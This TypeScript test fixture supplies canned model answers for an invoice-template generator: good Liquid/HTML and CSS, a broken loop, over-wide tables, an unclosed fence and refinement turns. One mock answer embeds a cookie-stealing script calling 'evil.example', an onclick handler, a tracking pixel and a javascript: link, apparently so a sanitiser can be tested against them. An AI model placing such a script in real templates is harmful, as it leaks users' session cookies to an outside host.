import type { AiRequest } from '../../provider';

/**
 * Canned answers of a model, as messy as real ones: prose around the code, scripts and remote URLs, broken
 * Liquid, a table wider than the page, an unclosed fence. All are written for SAMPLE.
 */

export const SAMPLE = {
  invoice: { number: 'INV-0042', issued_on: '2026-03-14' },
  customer: { name: 'Ada Lovelace', note: 'Deliver to the side entrance' },
  items: [
    { description: 'Analytical engine', quantity: 1, price: 1200 },
    { description: 'Punched cards', quantity: 3, price: 40 },
  ],
};

/** A body that is right for SAMPLE and for every edge case. */
export const GOOD_HTML = `<h1>Invoice {{ invoice.number }}</h1>
<p class="meta">Issued {{ invoice.issued_on | date: "long" }} to {{ customer.name }}</p>
{% if customer.note %}<p class="note">{{ customer.note }}</p>{% endif %}
<table class="items">
  <thead><tr><th width="60%">Item</th><th width="15%">Qty</th><th width="25%">Amount</th></tr></thead>
  <tbody>
    {% for item in items %}
    <tr><td>{{ item.description }}</td><td>{{ item.quantity }}</td><td>{{ item.quantity | times: item.price | money }}</td></tr>
    {% else %}
    <tr><td colspan="3">No items</td></tr>
    {% endfor %}
  </tbody>
</table>
<p class="total">Total {{ items | sum: "price" | money }}</p>`;

export const GOOD_CSS = `h1 { color: #1f4e79; font-size: 18pt; }
.items { width: 100%; border-collapse: collapse; }
.items th { text-align: left; border-bottom: 1px solid #ccc; }
.total { text-align: right; font-weight: bold; }`;

/** The first answer of a generation: right, but wrapped in prose and carrying what the sanitiser takes out. */
export const MESSY_GOOD = `Sure! Here is a clean invoice template for your consulting work.

\`\`\`html
<script>fetch("https://evil.example/steal?c=" + document.cookie)</script>
<img src="https://cdn.example.com/logo.png" alt="Logo">
<p onclick="steal()" style="background: url(https://tracker.example/pixel.gif) no-repeat">Thank you for your business</p>
<a href="javascript:alert(1)">Pay now</a>
${GOOD_HTML}
\`\`\`

\`\`\`css
@import url("https://fonts.example.com/brand.css");
${GOOD_CSS}
\`\`\`

\`\`\`json
{"name": "Consulting invoice", "page": {"size": "A4", "orientation": "portrait", "margins": {"top": 20, "right": 18, "bottom": 20, "left": 18}}, "footer_html": "<p>Page {{ page_number }} of {{ page_count }}</p>"}
\`\`\`

Let me know if you would like any changes!`;

/** A Liquid syntax error: the loop is never closed. */
export const BROKEN_LIQUID = `Here is the invoice.

\`\`\`html
<h1>Invoice {{ invoice.number }}</h1>
<table class="items">
  {% for item in items %}
  <tr><td>{{ item.description }}</td><td>{{ item.price | money }}</td></tr>
</table>
\`\`\``;

/** A clean answer, the repair of the above. */
export const REPAIRED = `I closed the loop.

\`\`\`html
${GOOD_HTML}
\`\`\`
\`\`\`css
${GOOD_CSS}
\`\`\``;

/** A table 240 mm wide on an A4 page (174 mm printable). */
export const TOO_WIDE = `Here is a wide table.

\`\`\`html
<h1>Invoice {{ invoice.number }}</h1>
<p>{{ customer.name }}</p>
<table style="width: 240mm">
  <colgroup><col width="120mm"><col width="120mm"></colgroup>
  {% for item in items %}<tr><td>{{ item.description }}</td><td>{{ item.price | money }}</td></tr>{% endfor %}
</table>
\`\`\``;

/** Four different answers that are all too wide, as a model that keeps trying and failing writes them. */
export const TOO_WIDE_TRIES = ['240mm', '235mm', '230mm', '225mm'].map((width) => TOO_WIDE.replace('240mm', width));

/** The last block left open, as a model cut short writes it. */
export const UNCLOSED_FENCE = `Done:
\`\`\`html
${GOOD_HTML}`;

export const NO_TEMPLATE = 'I am sorry, I cannot help with invoices.';

/** A refinement: the same template with a navy header. */
export const NAVY = `I made the header navy.

\`\`\`html
${GOOD_HTML}
\`\`\`
\`\`\`css
${GOOD_CSS.replace('#1f4e79', 'navy')}
\`\`\``;

/** A refinement that adds a field, with its sample value. */
export const WITH_PHONE = `I added the customer's phone number.

\`\`\`html
${GOOD_HTML.replace('to {{ customer.name }}', 'to {{ customer.name }} ({{ customer.phone }})')}
\`\`\`
\`\`\`json
{"sample_data": {"customer": {"name": "Ada Lovelace", "note": "Deliver to the side entrance", "phone": "+44 20 7946 0000"}}}
\`\`\``;

/** An email. */
export const EMAIL = `Here is the email.

\`\`\`html
<mjml><mj-body><mj-section><mj-column>
<mj-text>Hello {{ customer.name }}, your invoice {{ invoice.number }} is ready.</mj-text>
<mj-image src="https://cdn.example.com/banner.png"></mj-image>
</mj-column></mj-section></mj-body></mjml>
\`\`\``;

/**
 * A model that always changes something: a generation gets REPAIRED, a turn toggles the header between navy and
 * the original colour (a turn whose answer changed nothing would save no version).
 */
export function toggling(request: AiRequest): string {
  if (request.task.kind !== 'refine') return REPAIRED;
  return request.task.current.css?.includes('navy') ? REPAIRED : NAVY;
}

/** A QR code to pay, for an invoice of SAMPLE. */
export const QR = '<qr-code value="https://pay.example.com/{{ invoice.number }}" size="80"></qr-code>';

/** The invoice with the QR code a request asked for (REPAIRED has none). */
export const WITH_QR = `I added a QR code to pay online.

\`\`\`html
${GOOD_HTML}
${QR}
\`\`\`
\`\`\`css
${GOOD_CSS}
\`\`\``;
